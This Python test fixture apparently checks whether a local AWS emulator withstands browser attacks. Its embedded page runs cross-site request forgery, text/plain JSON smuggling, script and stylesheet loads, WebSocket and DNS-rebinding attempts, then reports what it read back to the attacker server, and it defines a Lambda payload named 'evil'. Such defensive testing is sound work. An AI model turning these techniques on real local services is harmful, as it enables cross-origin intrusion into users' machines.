"""A web page of another origin that tries what a page can try, and the server it comes from.

The server also plays a victim that has no guard: what the page does there shows that the attacks themselves work.
"""

from __future__ import annotations

import json
import threading
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

PAGE = """<!doctype html><meta charset="utf-8"><title>a page of another origin</title><body><script>
const targets = TARGETS, read = [];
const wait = (promise, ms) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no("late"), ms))]);
async function tried(name, promise) {
  let got = null;
  try { got = await wait(promise, 5000); } catch (error) { got = null; }
  read.push([name, got === null ? null : String(got)]);
}
const shown = async answer => answer.type === "opaque" ? null : answer.status + await answer.text();
const text = (url, options) => fetch(url, options).then(shown);
const event = (element, good) => new Promise((yes, no) => {
  element[good] = () => yes("loaded"); element.onerror = () => no("error"); document.body.append(element);
});
function form(url, fields, kind) {
  const frame = document.createElement("iframe"), f = document.createElement("form");
  frame.name = "f" + Math.random(); document.body.append(frame);
  Object.assign(f, {action: url, method: "POST", enctype: kind, target: frame.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("textarea"); input.name = name; input.value = value; f.append(input);
  }
  document.body.append(f); f.submit();
  return new Promise(yes => setTimeout(() => { let seen = null; try { seen = frame.contentDocument.body.innerText; }
    catch (error) { seen = null; } yes(seen); }, 1000));
}
function socket(url) {
  return new Promise((yes, no) => {
    const made = new WebSocket(url); made.onopen = () => yes("open"); made.onerror = () => no("error");
  });
}
(async () => {
  await Promise.all(targets.map(async ({name, url, path, body, headers}) => {
    const at = url + path, plain = {method: "POST", body, headers: {"Content-Type": "text/plain"}};
    await tried(name + " simple post", text(at, plain));
    await tried(name + " no-cors post", text(at, {...plain, mode: "no-cors"}));
    await tried(name + " with cookies", text(at, {...plain, credentials: "include", mode: "no-cors"}));
    await tried(name + " own headers", text(at, {method: "POST", body, headers}));
    await tried(name + " put", text(at, {method: "PUT", body}));
    await tried(name + " delete", text(at, {method: "DELETE"}));
    await tried(name + " get", text(at));
    await tried(name + " get no-cors", text(at, {mode: "no-cors"}));
    await tried(name + " by its other name", text(at.replace("127.0.0.1", "localhost"), plain));
    await tried(name + " beacon", Promise.resolve(navigator.sendBeacon(at, body) && null));
    await tried(name + " form text/plain", form(at, {[body.slice(0, -1) + ', "x": "']: '"}'}, "text/plain"));
    const fields = {Action: "ListQueues", Version: "2012-11-05"};
    await tried(name + " form", form(at, fields, "application/x-www-form-urlencoded"));
    await tried(name + " multipart", form(at, {a: "b"}, "multipart/form-data"));
    await tried(name + " image", event(Object.assign(new Image(), {src: at}), "onload"));
    const script = Object.assign(document.createElement("script"), {src: at});
    await tried(name + " script", event(script, "onload"));
    const style = Object.assign(document.createElement("link"), {rel: "stylesheet", href: at});
    await tried(name + " style", event(style, "onload"));
    await tried(name + " socket", socket(at.replace("http", "ws")));
    const rebound = at.replace("127.0.0.1", "rebound.example");
    await tried(name + " rebound", text(rebound, plain));
    await tried(name + " rebound no-cors", text(rebound, {...plain, mode: "no-cors"}));
  }));
  await fetch("/done", {method: "POST", body: JSON.stringify(read)});
})();
</script></body>"""


@dataclass(kw_only=True)
class Attacker:
    """A server on a port of its own."""

    targets: list[dict[str, Any]] = field(default_factory=list)
    read: dict[str, str | None] = field(default_factory=dict)
    """What the page got to read or to load, by attack; None where it got nothing."""
    reached: list[tuple[str, str]] = field(default_factory=list)
    """What the victim without a guard was asked: method and path."""
    done: threading.Event = field(default_factory=threading.Event)

    def serve(self) -> ThreadingHTTPServer:
        """From a thread of its own, until it is shut down."""

        class Handler(_Handler):
            attacker = self

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()
        return server


class _Handler(BaseHTTPRequestHandler):
    attacker: Attacker

    def do_GET(self) -> None:
        if self.path == "/":
            page = PAGE.replace("TARGETS", json.dumps(self.attacker.targets))
            return self._answer(page.encode(), "text/html")
        return self._victim()

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        if self.path == "/done":
            self.attacker.read = dict(json.loads(body))
            self.attacker.done.set()
            return self._answer(b"", "text/plain")
        return self._victim()

    def do_PUT(self) -> None:
        self._victim()

    def do_DELETE(self) -> None:
        self._victim()

    def do_OPTIONS(self) -> None:
        self._victim()

    def _victim(self) -> None:
        """As ministack does it: whoever asks is answered, and may read it."""
        self.attacker.reached.append((self.command, self.path))
        self._answer(b"secret", "text/css" if "style" in self.path else "text/javascript")

    def _answer(self, body: bytes, kind: str) -> None:
        self.send_response(200)
        for name in ("Origin", "Methods", "Headers"):
            self.send_header(f"Access-Control-Allow-{name}", "*")
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


CREATE = {
    "FunctionName": "evil",
    "Runtime": "python3.13",
    "Role": "arn:aws:iam::000000000000:role/x",
    "Handler": "x.x",
    "Code": {"ZipFile": ""},
}
